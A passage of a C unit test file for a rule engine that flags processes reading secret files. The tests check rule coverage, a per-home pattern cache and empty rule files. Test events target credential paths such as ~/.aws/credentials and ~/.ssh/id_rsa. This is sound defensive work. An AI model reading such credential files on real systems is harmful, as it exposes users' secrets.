	for (const char *p = sb.buf; (p = strstr(p, "\nrule ")); ) {
		p += 6;
		size_t n = strcspn(p, "\n");
		char *id = xstrndup(p, n);
		bool hit = false;
		for (size_t i = 0; i < hit_ids.nr && !hit; i++)
			hit = strcmp(hit_ids.v[i], id) == 0;
		if (!hit)
			fail_msg("no test event matches default rule %s", id);
		free(id);
		rules++;
	}
	struct ruleset *rs = defaults();
	assert_int_equal(rules, ruleset_count(rs));
	ruleset_free(rs);
	strbuf_release(&sb);
	strvec_clear(&hit_ids);
}

/* Patterns are expanded for the event's home once and cached: another
 * home, or rules loaded after a match, must still be seen. */
static void test_home_cache(void **state)
{
	struct ruleset *rs = defaults();
	struct rule_event ev = ev_path(EVENT_READ, HOME "/.aws/credentials", "import");
	EXPECT(rs, ev, "aws-credentials");
	ev.home = "/home/other";
	EXPECT(rs, ev, "");
	ev.path = "/home/other/.aws/credentials";
	char *shown = NULL;
	char *id = match_id(rs, &ev, &shown);
	assert_string_equal(id, "aws-credentials");
	assert_string_equal(shown, "/home/other/.aws");
	free(id);
	free(shown);
	ev.home = "/home/other/";                   /* a trailing '/' */
	EXPECT(rs, ev, "aws-credentials");
	ev.path = "/home/other/.config/acme/token";
	EXPECT(rs, ev, "");
	assert_int_equal(ruleset_load_string(rs, "late.rules",
		"rule acme-token\ncategory credentials\nseverity critical\n"
		"match read ~/.config/acme/**\ndescription A.\nexplanation A.\n"), 0);
	EXPECT(rs, ev, "acme-token");
	ruleset_free(rs);
}

/* A file with no rule (empty, only comments) loads cleanly: 0 problems. */
static void test_loader_empty(void **state)
{
	struct ruleset *rs = ruleset_new();
	assert_int_equal(ruleset_load_string(rs, "e.rules", ""), 0);
	assert_int_equal(ruleset_load_string(rs, "c.rules", "# only a comment\n\n   \n"), 0);
	assert_int_equal(ruleset_count(rs), 0);
	struct rule_event ev = ev_path(EVENT_READ, HOME "/.ssh/id_rsa", "import");
	char *shown = (char *)"unset";
	assert_null(ruleset_match(rs, &ev, &shown));
	assert_null(shown);
	ruleset_free(rs);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_ssh_brief_wording),
		cmocka_unit_test(test_default_path_rules),
		cmocka_unit_test(test_default_benign_paths),
		cmocka_unit_test(test_default_exec_rules),
		cmocka_unit_test(test_default_network_rules),
		cmocka_unit_test(test_default_catalogue),
		cmocka_unit_test(test_loader_reports_every_problem),
		cmocka_unit_test(test_loader_unreadable_file),
		cmocka_unit_test(test_matching_semantics),
		cmocka_unit_test(test_override_and_duplicates),
		cmocka_unit_test(test_hostile_paths),
		cmocka_unit_test(test_hostile_argv),
		cmocka_unit_test(test_loader_empty),
		cmocka_unit_test(test_home_cache),
		cmocka_unit_test(test_every_default_rule_hit), /* last */
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
